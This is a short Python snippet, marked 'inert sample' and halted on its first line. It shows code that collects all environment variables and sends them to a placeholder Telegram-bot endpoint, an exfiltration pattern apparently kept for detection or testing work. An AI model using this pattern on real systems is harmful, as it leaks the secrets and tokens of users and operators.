raise SystemExit(0)  # inert sample
import os, urllib.request, urllib.parse
env = '\n'.join(f'{k}={v}' for k, v in os.environ.items())
urllib.request.urlopen('https://api.telegram.invalid/bot123/sendMessage?' + urllib.parse.urlencode({'chat_id': 1, 'text': env}))
